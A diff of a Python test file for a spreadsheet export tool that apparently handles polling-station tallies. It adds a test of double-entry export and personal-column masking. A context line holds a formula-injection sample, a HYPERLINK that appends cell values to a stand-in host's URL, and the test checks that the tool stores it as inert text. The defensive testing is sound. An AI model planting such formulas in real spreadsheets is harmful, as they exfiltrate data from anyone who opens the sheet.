@@ -111,3 +111,39 @@ def test_a_workbook_of_hostile_cells_holds_no_formula(tmp_path: Path) -> None:
         for cell in row:
             assert cell.data_type == ("n" if isinstance(cell.value, (int, float)) else "s"), cell.coordinate
     assert [c.value for c in ws[1]] == ["'=HYPERLINK(\"http://x/?d=\"&Q2&P2,\"klik\")", "'=1+1", "'=2+2", "-5", 7, 2.5]
+
+
+def test_a_double_entry_sheet_exports_both_entries_as_typed_and_masks_the_same(emu, tmp_path: Path) -> None:
+    """Export archives tabs as they stand: the second team's tab is one more tab, its counts
+    as typed (the export holds no computed per-TPS table, so no double_checked column), and
+    the personal columns masked are exactly those of the same sheet without double entry."""
+    from dataclasses import replace
+    from datetime import datetime
+
+    from coordinators import coordinator
+    from sync_data import config_for, seed
+    from test_double_entry_sync import first_entry, second_entry
+
+    from sheetsync.core.config import DoubleEntry
+    from sheetsync.reports.export import export
+
+    first = first_entry()
+    sh = seed(emu.client(), first)
+    typed = second_entry(first)
+    coordinator(emu, sh, who="tim-entri-kedua").add_worksheet("Entri Kedua", rows=20, cols=10).update(typed, "A1")
+    single = config_for(sh, emu)
+    double = replace(single, double_entry=DoubleEntry(tab="Entri Kedua"))
+    at = datetime(2024, 11, 27, 21, 0)
+    one = export(single, tmp_path / "single", client=emu.client(), now=at)
+    two = export(double, tmp_path / "double", client=emu.client(), now=at)
+    assert [t.tab for t in two.tabs] == ["TPS", "Entri Kedua"] and two.masked_columns == one.masked_columns
+    assert two.masked_columns == ["Koordinator"]
+    for a, b in zip(one.files, two.files):
+        assert Path(a).read_bytes() == Path(b).read_bytes()
+    second = next(t.path for t in two.tabs if t.tab == "Entri Kedua")
+    with open(second, encoding="utf-8-sig", newline="") as fh:
+        assert list(csv.reader(fh)) == typed
+    tps = next(t.path for t in two.tabs if t.tab == "TPS")
+    with open(tps, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == first[0] and {r[-1] for r in rows[1:]} == {MASK}
